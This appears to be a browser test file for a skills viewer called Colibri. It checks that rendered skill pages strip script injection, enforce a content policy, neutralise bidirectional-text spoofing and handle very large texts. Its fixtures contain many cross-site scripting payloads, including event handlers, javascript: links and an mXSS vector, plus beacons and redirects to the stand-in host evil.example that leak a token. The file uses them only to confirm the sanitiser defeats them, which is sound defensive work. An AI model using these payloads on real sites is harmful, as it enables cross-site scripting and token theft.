/** Skills that attack whoever looks at them: harmless, even where the sanitiser should fail. */
import path from 'node:path';

import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';

import { writeSkill, writeSkillFile } from '../support/skill-files.ts';
import { temporaryDirectory } from '../support/temporary.ts';
import { serve } from '../surfaces/http/harness.ts';
import { startBrowser } from './browser.ts';
import { openPage } from './open-page.ts';

let browser: Browser;

beforeAll(async () => {
  browser = await startBrowser();
});

afterAll(() => browser.close());

const ATTACKS = `
<script>document.title = 'owned'; alert(1)</script>
<img src=x onerror="document.title='owned'">
<img src="http://evil.example/beacon?{{token}}">
![picture](http://evil.example/other.png)
<svg onload="document.title='owned'"><a xlink:href="javascript:alert(2)"><text>x</text></a></svg>
<iframe src="http://evil.example/"></iframe><object data="x"></object><embed src="x">
<form action="http://evil.example/"><input name=a><button>send</button></form>
<style>body { display: none }</style><link rel=stylesheet href="http://evil.example/x.css">
<base href="http://evil.example/"><meta http-equiv=refresh content="0;url=http://evil.example/">
<a href="javascript:document.title='owned'">one</a> [two](javascript:alert(3)) [three](data:text/html,<script>alert(4)</script>)
<a href=" &#106;avascript:alert(5)">four</a> <a href="vbscript:x" onclick="alert(6)" style="position:fixed">five</a>
<div id="app" class="frame">six</div> <p autofocus onfocus=alert(8) tabindex=1 contenteditable>seven</p>

[eight](https://example.org/fine) [nine](references/notes.md) [ten](//evil.example/x) [eleven](../../other/SKILL.md)

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(7)&gt;">
`;

test('scripts, handlers, beacons and forged links come to nothing', async () => {
  const workspace = temporaryDirectory();
  const root = path.join(workspace, '.agents/skills');
  writeSkill(root, 'hostile', {
    description: '<script>alert(9)</script><img src=x onerror=alert(10)>',
    body: ATTACKS,
    lines: ['x-own: "<script>alert(11)</script>"'],
  });
  const { runtime, origin } = await serve(workspace);
  try {
    const { page, troubles } = await openPage(browser, `${origin}/skills/hostile`);
    const prose = page.locator('.prose');
    await prose.getByText('eight').waitFor();
    expect(await page.title()).toBe('hostile · Skills · Colibri');
    expect(
      await prose
        .locator('script, img, svg, iframe, object, embed, form, input, style, link, base, meta')
        .count(),
    ).toBe(0);
    expect(
      await prose
        .locator('[onerror], [onclick], [onfocus], [style], [id], [class], [contenteditable]')
        .count(),
    ).toBe(0);
    const links = await prose
      .locator('a[href]')
      .evaluateAll((all) => all.map((link) => link.getAttribute('href')));
    expect(links).toEqual([
      'https://example.org/fine',
      expect.stringMatching(/^\/skills\/hostile\?tab=files/),
    ]);
    for (const tab of ['Facts', 'Files']) await page.getByRole('tab', { name: tab }).click();
    for (const view of ['/budget', '/activity', '/policy?skill=hostile', '/health']) {
      await page.goto(`${origin}${view}`);
      await page.waitForSelector('main h1');
    }
    // The sanitiser parses in a document that nobody sees; what is refused there is told, too.
    const refusedWhileParsing =
      /violates the following Content Security Policy directive:? .?(?:style-src|base-uri)/;
    expect(troubles.filter((trouble) => !refusedWhileParsing.test(trouble))).toEqual([]);
  } finally {
    await runtime.close();
  }
});

/** As text, because it is the page's world and not this one's. */
const BREAK_IN = `(async () => {
  const attempt = (work) => {
    try {
      work();
      return 'allowed';
    } catch (error) {
      return error.name;
    }
  };
  const host = document.body.appendChild(document.createElement('div'));
  const script = document.createElement('script');
  return {
    innerHTML: attempt(() => { host.innerHTML = '<img src=x onerror="document.title=1">'; }),
    script: attempt(() => { script.textContent = 'document.title = "owned"'; host.append(script); }),
    fetch: await fetch('http://127.0.0.1:9/').then(() => 'allowed', () => 'refused'),
    title: document.title,
  };
})()`;

test('the content policy alone would stop what the sanitiser let through', async () => {
  const workspace = temporaryDirectory();
  writeSkill(path.join(workspace, '.agents/skills'), 'one');
  const { runtime, origin } = await serve(workspace);
  try {
    const { page } = await openPage(browser, `${origin}/skills/one`);
    await page.waitForSelector('.prose');
    const outcome = await page.evaluate(BREAK_IN);
    expect(outcome).toEqual({
      innerHTML: 'TypeError',
      script: 'TypeError',
      fetch: 'refused',
      title: 'one · Skills · Colibri',
    });
  } finally {
    await runtime.close();
  }
});

test('text that would turn the reading direction is written out', async () => {
  const workspace = temporaryDirectory();
  const root = path.join(workspace, '.agents/skills');
  writeSkill(root, 'bidi', { description: 'safe \u202etxt.exe', body: 'pay \u2066evil\u2069 \u200bnow' });
  const { runtime, origin } = await serve(workspace);
  try {
    const { page } = await openPage(browser, `${origin}/skills/bidi`);
    await page.waitForSelector('.prose');
    const text = await page.locator('body').innerText();
    expect(text).toContain('\\u{202e}txt.exe');
    expect(text).toContain('\\u{2066}evil');
    expect(text).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b]/);
  } finally {
    await runtime.close();
  }
});

test('a text as large as a skill may be is shown without making the page wait; a larger one is rejected and told', async () => {
  const workspace = temporaryDirectory();
  const root = path.join(workspace, '.agents/skills');
  const line = '# a *heading* with `code` and [a link](https://example.org)\n\n';
  writeSkill(root, 'large', { body: line.repeat(Math.floor(1_000_000 / line.length)) });
  writeSkillFile(root, 'huge', `---\nname: huge\ndescription: d\n---\n${line.repeat(90_000)}`);
  const { runtime, origin } = await serve(workspace);
  try {
    const { page, troubles } = await openPage(browser, `${origin}/skills/large`);
    await page.locator('.prose h1').first().waitFor();
    await page.getByRole('button', { name: /Show the remaining [\d,]+ characters/ }).click();
    await page.locator('article pre').waitFor();
    await page.goto(`${origin}/health`);
    await page.locator('.findings li', { hasText: 'huge' }).waitFor();
    expect(troubles).toEqual([]);
  } finally {
    await runtime.close();
  }
});
